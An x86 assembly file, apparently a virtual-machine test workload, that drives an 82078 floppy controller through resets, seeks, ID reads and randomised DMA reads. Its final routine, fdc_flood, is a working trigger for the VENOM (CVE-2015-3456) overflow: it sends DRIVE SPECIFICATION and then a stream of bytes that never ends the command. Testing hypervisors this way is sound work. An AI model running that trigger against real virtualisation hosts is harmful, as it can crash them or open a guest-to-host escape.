# SPDX-License-Identifier: Apache-2.0
# The floppy controller (82078), driven as its data sheet says, and flooded as
# CVE-2015-3456 (VENOM) did.
.include "tiny.inc"
.text
.globl fdc_init, fdc_session, fdc_flood

.equ DOR,  0x3f2
.equ MSR,  0x3f4
.equ FIFO, 0x3f5
.equ CCR,  0x3f7
.equ DOR_RESET,     0x00
.equ DOR_MOTOR_OFF, 0x0c      # DMA and IRQ on, drive 0
.equ DOR_MOTOR_ON,  0x1c
.equ POLLS,         64        # of the MSR before the driver gives up

# fdc_put: al to the FIFO, once the controller asks for it
fdc_put:
    mov ah, al
    mov cx, POLLS
1:  inb MSR
    and al, 0xc0
    cmp al, 0x80              # RQM, and direction to the controller
    je 2f
    loop 1b
    stc
    ret
2:  outb FIFO, ah
    clc
    ret

# fdc_get: al from the FIFO
fdc_get:
    mov cx, POLLS
1:  inb MSR
    and al, 0xc0
    cmp al, 0xc0
    je 2f
    loop 1b
    stc
    ret
2:  inb FIFO
    clc
    ret

# fdc_command: cx bytes at FDC_COMMAND
fdc_command:
    push bx
    mov bx, cx
    mov si, FDC_COMMAND
1:  lodsb
    call fdc_put
    jc 2f
    dec bx
    jnz 1b
    clc
2:  pop bx
    ret

# fdc_result: cx bytes, into BUFFER
fdc_result:
    push bx
    mov bx, cx
    mov di, BUFFER
1:  call fdc_get
    jc 2f
    stosb
    dec bx
    jnz 1b
    clc
2:  pop bx
    ret

# fdc_sense: what the interrupt was about: status and cylinder
fdc_sense:
    mov al, 0x08
    call fdc_put
    jc 1f
    mov cx, 2
    call fdc_result
1:  ret

# fdc_reset: and everything that a reset takes away
fdc_reset:
    push bx
    mov al, IRQ_FLOPPY
    call irq_arm
    outb DOR, DOR_RESET
    outb 0x80, 0
    outb DOR, DOR_MOTOR_OFF
    mov al, IRQ_FLOPPY
    call irq_wait
    jc 2f
    mov bx, 4                 # one for each drive
1:  call fdc_sense
    jc 2f
    dec bx
    jnz 1b
    outb CCR, 0               # 500 kbit/s
    mov dword ptr [FDC_COMMAND], 0x02af03   # SPECIFY: rates, DMA mode
    mov cx, 3
    call fdc_command
2:  pop bx
    ret

# fdc_positioning: cx bytes of RECALIBRATE or SEEK, its interrupt, its sense
fdc_positioning:
    push cx
    mov al, IRQ_FLOPPY
    call irq_arm
    pop cx
    call fdc_command
    jc 1f
    mov al, IRQ_FLOPPY
    call irq_wait
    jc 1f
    call fdc_sense
1:  ret

fdc_recalibrate:
    mov dword ptr [FDC_COMMAND], 0x0007
    mov cx, 2
    jmp fdc_positioning

# fdc_seek: to cylinder al
fdc_seek:
    mov word ptr [FDC_COMMAND], 0x000f
    mov [FDC_COMMAND + 2], al
    mov cx, 3
    jmp fdc_positioning

fdc_read_id:
    mov al, IRQ_FLOPPY
    call irq_arm
    mov word ptr [FDC_COMMAND], 0x004a
    mov cx, 2
    jmp fdc_finish

# fdc_finish: cx bytes of command, its interrupt, its 7 bytes of result
fdc_finish:
    call fdc_command
    jc 1f
    mov al, IRQ_FLOPPY
    call irq_wait
    jc 1f
    mov cx, 7
    call fdc_result
1:  ret

# dma_to_buffer: channel 2 from the floppy to BUFFER, cx bytes
dma_to_buffer:
    dec cx
    outb 0x0a, 0x06           # mask
    outb 0x0c, 0xff           # flip-flop
    outb 0x04, (BUFFER & 0xff)
    outb 0x04, (BUFFER >> 8)
    outb 0x81, 0x00           # page
    outb 0x0c, 0xff
    outb 0x05, cl
    outb 0x05, ch
    outb 0x0b, 0x46           # single, to memory
    outb 0x0a, 0x02           # unmask
    ret

# fdc_read: al sectors of 512 bytes from sector 1 of cylinder ah
fdc_read:
    push bx
    mov bx, ax
    movzx cx, bl
    shl cx, 9
    call dma_to_buffer
    mov dword ptr [FDC_COMMAND], 0x0000e6   # READ DATA: drive, cylinder, head
    mov [FDC_COMMAND + 2], bh
    mov dword ptr [FDC_COMMAND + 4], 0x120201  # sector, 512 bytes, 18 a track
    mov [FDC_COMMAND + 6], bl                  # last sector
    mov word ptr [FDC_COMMAND + 7], 0xff1b     # gap, length unused
    mov al, IRQ_FLOPPY
    call irq_arm
    mov cx, 9
    call fdc_finish
    pop bx
    ret

fdc_init:
    call fdc_reset
    jc fdc_failed
    outb DOR, DOR_MOTOR_ON
    call fdc_recalibrate
    jc fdc_failed
    call fdc_read_id
    jc fdc_failed
    outb DOR, DOR_MOTOR_OFF
    ret

fdc_failed:
    inc dword ptr [ERRORS]
    outb DOR, DOR_MOTOR_OFF
    ret

# fdc_session: motor on, 1 to 4 reads on cylinders of chance, motor off
fdc_session:
    push bx
    outb DOR, DOR_MOTOR_ON
    mov ax, 2
    call random_below
    inc ax
    call wait_ticks           # spin-up
    mov ax, 4
    call random_below
    inc ax
    mov bl, al
1:  mov ax, 80
    call random_below
    mov bh, al
    call fdc_seek
    jc 3f
    mov ax, 3
    call random_below
    test ax, ax
    jnz 2f
    call fdc_read_id          # now and then a driver looks where it is
    jc 3f
2:  mov ax, 6
    call random_below
    inc ax
    mov ah, bh
    call fdc_read
    jc 3f
    dec bl
    jnz 1b
    outb DOR, DOR_MOTOR_OFF
    jmp 4f
3:  inc dword ptr [ERRORS]    # as drivers do: reset, and go on
    call fdc_reset
    jc 4f
    call fdc_recalibrate
4:  pop bx
    ret

# fdc_flood: DRIVE SPECIFICATION, and COUNT bytes that never end it
fdc_flood:
    outb DOR, DOR_MOTOR_ON
    outb FIFO, 0x8e
    mov ecx, [PARAM_COUNT]
    jecxz 2f
1:  mov al, cl
    and al, 0x7f              # bit 7 would end the command
    out dx, al
    dec ecx
    jnz 1b
2:  ret
